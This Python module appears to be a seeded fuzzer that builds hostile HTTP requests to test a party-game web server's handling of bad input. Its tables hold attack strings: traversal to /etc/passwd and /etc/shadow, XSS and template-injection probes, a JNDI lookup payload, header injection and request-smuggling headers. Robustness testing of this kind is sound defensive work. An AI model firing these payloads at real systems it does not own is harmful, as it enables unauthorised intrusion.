"""Makes the requests of attackers, as the bytes sent over a connection, each drawn from a seed."""

from collections.abc import Callable, Mapping, Sequence
from random import Random
from urllib.parse import quote_plus

from msgspec import Struct

_METHODS = (
    *("GET", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PATCH", "get", "P\u00d6ST", ""),
    *("X" * 300,),
)
_PATHS = (
    *("/..", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/shadow", "//", "/./", "/page.css/../phones.json", "/phones.json"),
    *("/page.js%00.css", "/?x=1", "/#", "*", "", "http://evil.example/", "/\\..\\", "/" + "a" * 7000, "/%ff%fe", "/;/"),
)
_HOSTS = (
    *("evil.example", "nightcrier.local.evil.example", "", "[::1", "a b", "x:8a", "localhost:99999999999", "1.2.3.4:"),
    *("[fe80::1%evil]", "\u0661.\u0662.\u0663.\u0664", "127.0.0.1\t", "0x7f.1", "localhost\x00"),
)
_ODD = (
    *("", "0", "-1", "nan", "inf", "1e999", "9" * 400, "\x00", "\r\nX: y", "\u202egnp.exe"),
    *("\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"), "'\"><script>", "{{7*7}}", "${jndi:ldap://x}"),
    *("../../etc/passwd", "\x1b[2J", "\u0000" * 90, "a" * 1500, "%s%n", "=1+1"),
)
_FIELDS = (
    *("type", "loudness", "person", "name", "place", "presence", "deck", "more", "fewer", "game", "scenario"),
    *("players", "menu", "item", "value", "at", "value-1", "won-1", "send", "points-1", "died-1", "holds-1", "sure"),
    *("evening", "code", "keep", "mark", "password", "do", "to", "t-one", "message", "identify", "answer", "table"),
    *("title", "ahead"),
)
_KINDS = (
    *("loudness", "name", "presence", "newcomer", "move", "scenario", "card", "setting", "answer", "result", "mend"),
    *("strike", "chore", "look", "reached", "message", "identify", "helped", "dusk", "clock", "stop", "pause"),
)
_RIGHT = (
    *("type=loudness&loudness=7", "type=name&person=1&name=Zoe", "type=presence&person=2&presence=plays"),
    *("type=move&person=1&place=2", "type=scenario&deck=one-night+first-game", "type=answer&at=61.5&value-1=yes"),
    *("type=card&game=one-night&scenario=first-game&players=5&more=seer+1", "type=strike&evening=1&game=1&sure=yes"),
    *("type=setting&menu=main&item=screen.players&value=6", "type=mend&evening=1&game=1&won-1=yes&won-2=yes"),
    *("type=result&at=61.5&send=points&points-1=2&points-2=1&points-3=1", "type=chore&chore=save-out"),
    *("to=all&do=message&message=Lunch", "to=ticked&t-one=yes&do=loudness&loudness=5", "type=newcomer"),
    *("identify=one", "table=den&title=Den"),
)
"""Valid forms of the two pages. One value of each is then spoiled."""


class HostileRequest(Struct, frozen=True):
    """Holds what is tried, and the bytes of the request, which end there."""

    tried: str
    sent: bytes


class Attacker:
    """Attacks a site with these `routes` at `host`. With `cookie` and `mark`, the attacker has been let in."""

    def __init__(self, rng: Random, host: str, routes: Sequence[str], cookie: str = "", mark: str = "") -> None:
        self._rng, self._host, self._routes, self._cookie, self._mark = rng, host, routes, cookie, mark
        self._ways: Mapping[str, Callable[[], bytes]] = {
            "methods and paths": self._methods_and_paths,
            "hosts, origins, cookies": self._headers,
            "headers that mean two things": self._tricks,
            "lengths and chunks that lie": self._lengths,
            "forms with random fields": self._form,
            "forms in which one value is spoilt": self._spoilt_form,
            "files": self._file,
            "cut, mutated, several at once": self._mutated,
            "random bytes": lambda: rng.randbytes(rng.randrange(1, 3000)),
        }

    def request(self) -> HostileRequest:
        tried = self._rng.choice(tuple(self._ways))
        return HostileRequest(tried, self._ways[tried]())

    def _whole(self, method: str, path: str, body: bytes = b"", **headers: str) -> bytes:
        """Return a request like a browser's, with these differences."""
        lines = {"Host": self._host, "Origin": f"http://{self._host}", "Content-Length": str(len(body))}
        lines |= {"Content-Type": "application/x-www-form-urlencoded"} if body else {}
        lines |= {"Cookie": self._cookie} if self._cookie else {}
        lines |= {name.replace("_", "-"): value for name, value in headers.items()}
        head = "".join(f"{name}: {value}\r\n" for name, value in lines.items())
        return f"{method} {path} HTTP/1.1\r\n{head}\r\n".encode("utf-8", "replace") + body

    def _methods_and_paths(self) -> bytes:
        rng = self._rng
        return self._whole(rng.choice(_METHODS), rng.choice((*self._routes, *_PATHS)))

    def _headers(self) -> bytes:
        rng, key = self._rng, self._cookie.partition("=")[0] or "nightcrier"
        made_up = f"{key}={rng.randbytes(32).hex()}"
        cookies = (f'{key}="' + "\\" * 7000, f"{key}=a; {key}=b", "=" * 2000, made_up, "a=b;" * 1500)
        told = rng.choice(
            (
                {"Host": rng.choice(_HOSTS)},
                {"Origin": rng.choice(("null", "", "http://evil.example", f"https://{self._host}"))},
                {"Cookie": rng.choice(cookies)},
                {"Accept-Language": ",".join(rng.choices(("fa", "zh-Hant", "xx", "-", ";q=9"), k=rng.randrange(900)))},
            )
        )
        body = f"mark={self._mark}&type=newcomer".encode() if "Origin" in told else b""
        return self._whole("POST" if body else "GET", rng.choice(self._routes), body, **told)

    def _tricks(self) -> bytes:
        extra = self._rng.choice(
            (
                *("Host: evil.example", "Cookie: nightcrier=x", "Content-Length: 5", "Transfer-Encoding: chunked"),
                *(
                    "Transfer-Encoding: chunked, gzip",
                    "Bad Header: 1",
                    ": empty",
                    " folded: 1",
                    "X: a\r\n\tb",
                    "X:\x00",
                ),
                *("Expect: 100-continue", "Upgrade: websocket\r\nConnection: Upgrade", "X: " + "y" * 9000),
                *("X\r\n\r\nGET / HTTP/1.1", "Connection: keep-alive", "Content-Length: +3", "Content-Length: 0x3"),
                *("Host\t: a", "X-" * 3000 + ": 1"),
            )
        )
        head, _, body = self._whole("POST", self._rng.choice(self._routes), b"abc").partition(b"\r\n\r\n")
        return head + b"\r\n" + extra.encode() + b"\r\n\r\n" + body

    def _lengths(self) -> bytes:
        rng, path = self._rng, self._rng.choice(self._routes)
        if rng.random() < 0.5:
            length = rng.choice(("-1", "99999999999999999999", "1e3", "0", "3", str(2**31)))
            return self._whole("POST", path, rng.randbytes(rng.choice((0, 3, 2049, 40_000))), Content_Length=length)
        chunks = b"".join(
            rng.choice((b"%x" % size, b"%X;x=%s" % (size, b"y" * rng.randrange(300)), b"-1", b"f" * 40, b"0x3", b""))
            + b"\r\n"
            + b"z" * size
            + b"\r\n"
            for size in rng.choices((1, 5, 200, 5000), k=rng.randrange(1, 9))
        )
        whole = self._whole("POST", path, b"").replace(b"Content-Length: 0", b"Transfer-Encoding: chunked")
        return whole + chunks + rng.choice((b"0\r\n\r\n", b"0\r\nX: y\r\n\r\n", b""))

    def _form(self) -> bytes:
        rng = self._rng
        values = (*_ODD, *_KINDS, "1", "2", "yes", "home", "one-night first-game", "werewolf 1", "message", "all", "60")
        fields = [("mark", rng.choice((self._mark, self._mark, self._mark, "x", ""))), ("type", rng.choice(_KINDS))]
        fields += [(rng.choice(_FIELDS), rng.choice(values)) for _ in range(rng.choice((1, 2, 3, 4, 5, 9, 130)))]
        body = "&".join(f"{name}={quote_plus(value.encode('utf-8', 'replace'))}" for name, value in fields).encode()
        if rng.random() < 0.1:
            body = body.replace(b"=", rng.choice((b"%ff=", b"&", b"=%ed%a0%80", b"%")), 3)
        posts = [route for route in self._routes if route != "/file"]
        return self._whole("POST", rng.choice(("/wish", "/enter", "/send", "/one", rng.choice(posts))), body)

    def _spoilt_form(self) -> bytes:
        rng = self._rng
        form = rng.choice(_RIGHT)
        fields = [each.partition("=") for each in form.split("&")]
        at = rng.randrange(len(fields))
        value = quote_plus(rng.choice(_ODD).encode("utf-8", "replace"))
        name, _, before = fields[at]
        fields[at] = (name, "=", rng.choice((value, before + value, before)))
        body = f"mark={self._mark}&" + "&".join("".join(field) for field in fields)
        paths = ("/send", "/one", "/join") if "type" not in form else ("/wish",)
        return self._whole("POST", rng.choice(paths), body.encode())

    def _file(self) -> bytes:
        rng = self._rng
        names = ("../a.toml", "a.toml", "\u202elmot.a", "x" * 300 + ".zip", "a.zip", "a.tar.xz", ".toml", "a\r\nb.toml")
        name = rng.choice((*names, "CON.toml"))
        content = rng.choice(
            (b"", b"PK\3\4" + rng.randbytes(50), rng.randbytes(9000), b"[deck]\n", b"\r\n--edge\r\n" * 9)
        )
        mark = rng.choice((self._mark, "x", "m" * 500))
        body = (
            f'--edge\r\nContent-Disposition: form-data; name="mark"\r\n\r\n{mark}\r\n--edge\r\nContent-Disposition: '
            f'form-data; name="file"; filename="{name}"\r\n\r\n'.encode()
            + content
            + b"\r\n--edge--\r\n"
        )
        kind = rng.choice(
            ("multipart/form-data; boundary=edge", "multipart/form-data; boundary=" + "e" * 90, "text/plain")
        )
        return self._whole(
            "POST", "/file", body[: rng.choice((len(body), rng.randrange(len(body))))], Content_Type=kind
        )

    def _mutated(self) -> bytes:
        rng = self._rng
        sent = bytearray(rng.choice((self._form, self._headers, self._methods_and_paths))())
        for _ in range(rng.randrange(6)):
            at = rng.randrange(len(sent))
            sent[at : at + rng.randrange(3)] = rng.choice(
                (b"", b"\r", b"\n", b"\0", b"\xff", b"\r\n\r\n", rng.randbytes(4))
            )
        return bytes(rng.choice((sent, sent[: rng.randrange(len(sent) + 1)], sent * 3)))
